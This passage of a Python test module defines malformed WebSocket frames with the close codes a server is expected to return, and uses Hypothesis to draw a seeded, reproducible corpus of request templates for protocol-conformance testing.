    b"\xe2\x82",  # truncated sequence
)


def _masked(first: int, payload: bytes, length: bytes | None = None) -> bytes:
    key = b"\x01\x02\x03\x04"
    body = bytes(b ^ key[i % 4] for i, b in enumerate(payload))
    return bytes([first]) + (length or bytes([0x80 | len(payload)])) + key + body


# WebSocket framing violations, written under the client's WebSocket layer, with the close codes
# the server may answer each with.
RAW_VIOLATIONS: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "rsv1": (_masked(0x80 | 0x40 | 0x1, b'{"id":1,"type":"ping"}'), (1002,)),
    "rsv3": (_masked(0x80 | 0x10 | 0x1, b"{}"), (1002,)),
    "opcode_3": (_masked(0x80 | 0x3, b"x"), (1002,)),
    "opcode_b": (_masked(0x80 | 0xB, b"x"), (1002,)),
    "unmasked": (bytes([0x81, 0x02]) + b"{}", (1002,)),
    "continuation_first": (_masked(0x80 | 0x0, b"{}"), (1002,)),
    "fragmented_ping": (_masked(0x9, b"x"), (1002,)),
    "long_ping": (_masked(0x89, b"p" * 126, b"\xfe\x00\x7e"), (1002,)),
    "close_bad_code": (_masked(0x88, b"\x03\xe7"), (1002,)),  # 999
    "close_1005": (_masked(0x88, b"\x03\xed"), (1002,)),
    "close_one_byte": (_masked(0x88, b"\x03"), (1002,)),
    "close_bad_utf8": (_masked(0x88, b"\x03\xe8\xff"), (1007,)),
    "length_2_63": (bytes([0x81, 0xFF]) + b"\x7f" + b"\xff" * 7 + b"\x01\x02\x03\x04", (1009,)),
    "text_in_text": (_masked(0x01, b'{"id":1,') + _masked(0x81, b'"type":"ping"}'), (1002,)),
}


def corpus(world: World, size: int, run_seed: int, per_example: int = 25) -> list[Template]:
    """``size`` templates drawn by Hypothesis, reproducibly: the same seed and world give the
    same corpus. One seeded run per family and request type (``Grammar.plan``), each drawing
    ``per_example`` templates per example (Hypothesis caps the data of one example; an example
    that runs out simply ends early)."""
    grammar = Grammar(world)
    drawn: list[Template] = []
    for name, strategy, count in grammar.plan(size):
        drawn += _draw(strategy, count, run_seed ^ zlib.crc32(name.encode()), per_example)
    return drawn


def _draw(
    strategy: st.SearchStrategy[Template], count: int, run_seed: int, per_example: int
) -> list[Template]:
    drawn: list[Template] = []

    @seed(run_seed)
    @settings(
        max_examples=-(-count // per_example) + 2,
        deadline=None,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(st.data())
    def draw_examples(data: st.DataObject) -> None:
        batch = [data.draw(strategy) for _ in range(per_example)]
        examples.append(batch)

    examples: list[list[Template]] = []
    draw_examples()
    # Hypothesis tries the simplest example first (every choice at its minimum): keep it once.
    for batch in examples[1:]:
        drawn.extend(batch)
    drawn.extend(examples[0][:1] if examples else [])
    return drawn[:count]


def family_counts(templates: Sequence[Template]) -> dict[str, int]:
    counts: dict[str, int] = {}
    for t in templates:
        family = t.label.split("~")[0].split(":")[0]
        counts[family] = counts.get(family, 0) + 1
    return dict(sorted(counts.items()))
